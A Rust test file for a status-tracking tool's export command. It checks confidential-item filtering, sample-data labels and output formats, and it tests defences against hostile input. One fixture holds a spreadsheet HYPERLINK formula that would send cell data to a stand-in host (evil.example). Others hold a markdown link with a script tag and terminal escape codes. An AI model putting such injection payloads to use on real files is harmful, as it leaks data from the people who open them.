//! `rapporteur export` as a user meets it: confidential by default, marked for what it is, safe to
//! open, filters that say when they name nothing, and the golden files of each format.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // a failed assumption here is a failed test

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const INTERNAL: &str = "tests/fixtures/export-internal.json";
const SECRETS: [&str; 3] = ["SECRET-RECORD", "SECRET-NOTE", "SECRET-EVIDENCE"];
const FORMATS: [&str; 3] = ["csv", "md", "json"];

fn rapporteur(args: &[&str]) -> Output {
    let scratch = std::env::temp_dir().join(format!("rapporteur-export-{}", std::process::id()));
    std::fs::create_dir_all(&scratch).unwrap();
    let mut command = Command::new(env!("CARGO_BIN_EXE_rapporteur"));
    command.current_dir(env!("CARGO_MANIFEST_DIR")).args(args);
    for var in [
        "RAPPORTEUR_FEED",
        "RAPPORTEUR_CONFIG",
        "RAPPORTEUR_VIEW",
        "RAPPORTEUR_THEME",
        "RAPPORTEUR_INTERVAL",
        "RAPPORTEUR_KIOSK",
        "NO_COLOR",
    ] {
        command.env_remove(var);
    }
    // No user config file can leak in.
    command
        .env("XDG_CONFIG_HOME", &scratch)
        .env("HOME", &scratch);
    command.output().expect("the binary runs")
}

/// `export` with `args`, which must succeed; returns standard output and standard error.
fn export(args: &[&str]) -> (String, String) {
    let mut all = vec!["export", "--today", "2026-11-29"];
    all.extend(args);
    let out = rapporteur(&all);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "{args:?}: {stderr}");
    (String::from_utf8(out.stdout).unwrap(), stderr)
}

/// The CSV's rows as cells, the header first.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn golden(name: &str) -> String {
    let path: PathBuf = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden")
        .join(name);
    std::fs::read_to_string(&path).unwrap_or_else(|_| panic!("{} is missing", path.display()))
}

/// The export time is the only thing that changes from run to run.
fn without_export_time(text: &str) -> String {
    text.lines()
        .map(|line| {
            if line.starts_with("Exported: ") {
                "Exported: EXPORTED_AT  ".to_owned()
            } else if line.trim_start().starts_with("\"exported_at\": ") {
                "    \"exported_at\": \"EXPORTED_AT\",".to_owned()
            } else {
                line.to_owned()
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
        + "\n"
}

#[test]
fn nothing_internal_comes_out_by_default_in_any_format() {
    for format in FORMATS {
        let (out, err) = export(&["--feed", INTERNAL, "--format", format]);
        for secret in SECRETS {
            assert!(!out.contains(secret), "{format} leaks {secret}:\n{out}");
        }
        assert!(out.contains("Public note on progress."), "{format}:\n{out}");
        assert!(out.contains("Public report"), "{format}:\n{out}");
        assert!(!out.contains("visibility"), "{format}:\n{out}");
        assert_eq!(
            err,
            "rapporteur export: left out internal items: 1 record, 1 note, 1 evidence item. \
             Add --include-internal to include them (not for publication).\n",
            "{format}"
        );
    }
}

#[test]
fn include_internal_brings_everything_with_its_visibility() {
    for format in FORMATS {
        let (out, err) = export(&["--feed", INTERNAL, "--format", format, "--include-internal"]);
        for secret in SECRETS {
            assert!(out.contains(secret), "{format} lacks {secret}:\n{out}");
        }
        assert!(err.contains("internal items are included"), "{err}");
        assert!(!err.contains("left out"), "{err}");
        match format {
            "csv" => {
                let rows = csv_rows(&out);
                let column = rows[0].iter().position(|c| c == "visibility").unwrap();
                let marks: Vec<&str> = rows[1..].iter().map(|r| r[column].as_str()).collect();
                // LP-01 is public but carries an internal note and evidence item.
                assert_eq!(marks, ["internal", "internal", "public"]);
            }
            "md" => {
                assert!(out.contains("| Visibility |"), "{out}");
                assert!(out.contains("not for publication"), "{out}");
            }
            _ => {
                let doc: serde_json::Value = serde_json::from_str(&out).unwrap();
                assert_eq!(doc["feed"]["includes_internal"], true);
                let recs = doc["recommendations"].as_array().unwrap();
                assert_eq!(recs[1]["visibility"], "internal");
                assert_eq!(recs[0]["notes"][1]["visibility"], "internal");
                assert_eq!(recs[0]["evidence"][0]["visibility"], "public");
            }
        }
    }
}

#[test]
fn sample_data_is_marked_in_every_format() {
    let line = "SAMPLE DATA: illustrative statuses, not a real assessment";
    let (csv, _) = export(&["--format", "csv"]);
    let rows = csv_rows(&csv);
    assert_eq!(rows[0][rows[0].len() - 2..], ["as_of", "sample"]);
    assert_eq!(rows.len(), 37, "the 36 and a header");
    for row in &rows[1..] {
        assert_eq!(row[row.len() - 2..], ["2026-11-28T09:00:00Z", "true"]);
    }
    let (md, _) = export(&["--format", "md"]);
    assert!(
        md.starts_with("# DATE recommendations: implementation status\n"),
        "{md}"
    );
    assert!(md.contains(&format!("**{line}**")), "{md}");
    assert!(md.contains("Statuses as of: 2026-11-28T09:00:00Z"), "{md}");
    let (json, _) = export(&["--format", "json"]);
    let doc: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(doc["feed"]["sample"], true);
    assert_eq!(doc["feed"]["sample_notice"], line);
    assert_eq!(doc["feed"]["generated_at"], "2026-11-28T09:00:00Z");
    // A real feed says it is not sample data, and carries no such line.
    let (real, _) = export(&["--feed", INTERNAL, "--format", "md"]);
    assert!(!real.contains("SAMPLE"), "{real}");
    let (real_csv, _) = export(&["--feed", INTERNAL]);
    assert!(csv_rows(&real_csv)[1].ends_with(&["2026-11-28T09:00:00Z".into(), "false".into()]));
}

#[test]
fn a_formula_reaches_the_csv_as_text() {
    let (out, _) = export(&["--feed", INTERNAL, "--columns", "id,title"]);
    let rows = csv_rows(&out);
    assert_eq!(
        rows[1],
        [
            "LP-01",
            "'=HYPERLINK(\"https://evil.example/?x=\"&B3,\"Open\")",
            "2026-11-28T09:00:00Z",
            "false"
        ]
    );
    assert!(out.contains("\r\n"), "CSV lines end with CRLF");
    let (excel, _) = export(&["--feed", INTERNAL, "--excel"]);
    assert!(excel.starts_with('\u{feff}'), "--excel starts with a BOM");
    assert!(!out.starts_with('\u{feff}'), "no BOM without --excel");
}

#[test]
fn a_markdown_link_or_tag_from_the_feed_stays_text() {
    let (out, _) = export(&[
        "--feed",
        INTERNAL,
        "--format",
        "md",
        "--columns",
        "id,title",
    ]);
    let row = out.lines().find(|l| l.starts_with("| CSO-01 |")).unwrap();
    assert_eq!(
        row,
        "| CSO-01 | See \\[the site\\](https://evil.example) \\<script\\>x\\</script\\> \\`code\\` \
         \\| pipe |"
    );
}

#[test]
fn every_filter_names_the_known_values_when_given_an_unknown_one() {
    for (flag, value, known) in [
        ("--status", "started", "partially_implemented"),
        ("--theme", "Dta", "data (Data)"),
        (
            "--audience",
            "press",
            "civil-society (Civil Society Organisations)",
        ),
        ("--priority", "urgent", "high, medium, low"),
        ("--columns", "colour", "latest_change_note"),
        ("--view", "nope", "overdue-data"),
    ] {
        let out = rapporteur(&["export", flag, value]);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{flag} {value}: {err}");
        assert!(err.contains(&format!("\"{value}\"")), "{flag}: {err}");
        assert!(err.contains(known), "{flag}: {err}");
        assert!(out.stdout.is_empty(), "{flag}: nothing is written");
    }
    let out = rapporteur(&["export", "--due-within", "soon"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn filters_take_the_label_on_screen_in_any_case() {
    let ids = |args: &[&str]| -> Vec<String> {
        let mut all = vec!["--columns", "id"];
        all.extend(args);
        let (out, _) = export(&all);
        csv_rows(&out)[1..].iter().map(|r| r[0].clone()).collect()
    };
    let by_id = ids(&["--theme", "data", "--status", "in_progress"]);
    assert!(!by_id.is_empty());
    assert_eq!(ids(&["--theme", "Data", "--status", "In Progress"]), by_id);
    assert_eq!(
        ids(&["--audience", "Media and Research"]),
        ["MR-01", "MR-02", "MR-03", "MR-04", "MR-05", "MR-06"]
    );
    assert_eq!(ids(&["--audience", "media-research"]).len(), 6);
}

#[test]
fn owner_and_due_within_filter_like_the_console() {
    let ids = |args: &[&str]| -> Vec<String> {
        let mut all = vec!["--feed", INTERNAL, "--include-internal", "--columns", "id"];
        all.extend(args);
        let (out, _) = export(&all);
        csv_rows(&out)[1..].iter().map(|r| r[0].clone()).collect()
    };
    assert_eq!(ids(&["--owner", "police"]), ["LP-01"]);
    assert_eq!(ids(&["--owner", "COALITION"]), ["CSO-01"]);
    // CSO-01 is due in 47 days but implemented; LP-01 is overdue.
    assert!(ids(&["--due-within", "60"]).is_empty());
    let (md, _) = export(&["--feed", INTERNAL, "--format", "md", "--owner", "police"]);
    assert!(md.contains("Filters: owner contains: police  "), "{md}");
}

#[test]
fn columns_are_chosen_and_ordered_and_full_text_adds_the_text() {
    let (out, _) = export(&["--feed", INTERNAL, "--columns", "status,id,days_overdue"]);
    let rows = csv_rows(&out);
    assert_eq!(rows[0], ["status", "id", "days_overdue", "as_of", "sample"]);
    assert_eq!(rows[1][..3], ["in progress", "LP-01", "59"]);
    let (json, _) = export(&["--feed", INTERNAL, "--format", "json", "--full-text"]);
    let doc: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(
        doc["recommendations"][0]["text"],
        "The full text of the first recommendation."
    );
    assert_eq!(
        doc["recommendations"][0]["latest_change_status"],
        "in progress"
    );
    assert_eq!(doc["recommendations"][1]["due"], "2027-01-15");
    assert_eq!(
        doc["recommendations"][1]["days_overdue"],
        serde_json::Value::Null
    );
}

#[test]
fn export_writes_csv_markdown_and_json_as_the_golden_files() {
    let args = [
        "--status",
        "no_action",
        "--status",
        "not_assessed",
        "--theme",
        "funding",
        "--theme",
        "framing",
    ];
    for (format, file) in [
        ("csv", "export.csv"),
        ("md", "export.md"),
        ("json", "export.json"),
    ] {
        let mut all = args.to_vec();
        all.extend(["--format", format]);
        let (out, _) = export(&all);
        let out = if format == "csv" {
            out
        } else {
            without_export_time(&out)
        };
        assert_eq!(
            out,
            golden(file),
            "{format} differs from tests/golden/{file}"
        );
    }
}

#[test]
fn export_searches_like_the_screen() {
    let (out, _) = export(&["--search", "STATISTICS office", "--format", "json"]);
    let doc: serde_json::Value = serde_json::from_str(&out).unwrap();
    let ids: Vec<&str> = doc["recommendations"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap())
        .collect();
    assert!(ids.contains(&"LP-09"), "{ids:?}");
    assert_eq!(doc["feed"]["filters"][0], "/STATISTICS office");
}

#[test]
fn flag_text_with_terminal_controls_is_printed_clean() {
    let (md, _) = export(&["--format", "md", "--owner", "\u{1b}[2Jministry\u{7}"]);
    assert!(md.contains("owner contains: ministry"), "{md}");
    assert!(!md.contains('\u{1b}') && !md.contains('\u{7}'), "{md:?}");
    let out = rapporteur(&["export", "--feed", "gone-\u{1b}[2J.json"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("gone-"), "{err}");
    assert!(!err.contains('\u{1b}'), "{err:?}");
}

#[test]
fn every_json_field_is_one_the_published_schema_names() {
    let schema: serde_json::Value =
        serde_json::from_str(&rapporteur::export::json::schema_json()).unwrap();
    let defs = &schema["$defs"];
    let known = |def: &str, key: &str| defs[def]["properties"].get(key).is_some();
    let (out, _) = export(&[
        "--feed",
        INTERNAL,
        "--format",
        "json",
        "--include-internal",
        "--full-text",
    ]);
    let doc: serde_json::Value = serde_json::from_str(&out).unwrap();
    for key in doc.as_object().unwrap().keys() {
        assert!(schema["properties"].get(key).is_some(), "{key}");
    }
    for key in doc["feed"].as_object().unwrap().keys() {
        assert!(known("FeedFacts", key), "feed.{key}");
    }
    let mut seen = 0;
    for rec in doc["recommendations"].as_array().unwrap() {
        for (key, value) in rec.as_object().unwrap() {
            assert!(known("ExportRecord", key), "{key}");
            seen += 1;
            let items = value.as_array().into_iter().flatten();
            let def = match key.as_str() {
                "evidence" => "ExportEvidence",
                "notes" => "ExportNote",
                _ => continue,
            };
            for item in items {
                for key in item.as_object().unwrap().keys() {
                    assert!(known(def, key), "{def}.{key}");
                }
            }
        }
    }
    // Every column and the visibility, on each of the three records.
    assert_eq!(seen, 3 * 18);
}
